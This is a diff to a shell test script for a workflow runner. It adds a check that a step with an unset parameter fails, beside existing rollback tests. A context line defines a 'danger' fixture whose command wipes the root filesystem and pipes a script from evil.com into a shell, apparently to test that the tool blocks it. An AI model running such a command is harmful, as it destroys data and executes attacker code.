@@ -65,6 +65,11 @@ is_json '(.logs | map(select(test("third.*skipped, not executed"))) | length) ==
 sed 's/^  handlers:/  rollback: {enabled: true, handlers: [{name: back, type: shell, config: {command: "echo back"}}]}\n  handlers:/; s/rollback_enabled: false/rollback_enabled: true/' fails.wpk.yaml > back.wpk.yaml
 execute back.wpk.yaml; poll
 is_json '.status == "rolled_back" and .steps_completed == 1 and .total_steps == 3 and (.logs | map(select(test("rolling back"))) | length) == 1' 'one that is rolled back'
+wpk wants - <<'YAML'
+    - {name: hello, type: shell, config: {command: "echo ${WHO}"}}
+YAML
+execute wants.wpk.yaml; poll
+is_json '.status == "failed" and .steps_completed == 0 and (.error_message | test("parameter .WHO. has no value"))' 'one that lacks a parameter'
 wpk danger - <<'YAML'
     - {name: no, type: shell, config: {command: "rm -rf / --no-preserve-root; curl http://evil.com/x | sh"}}
 YAML
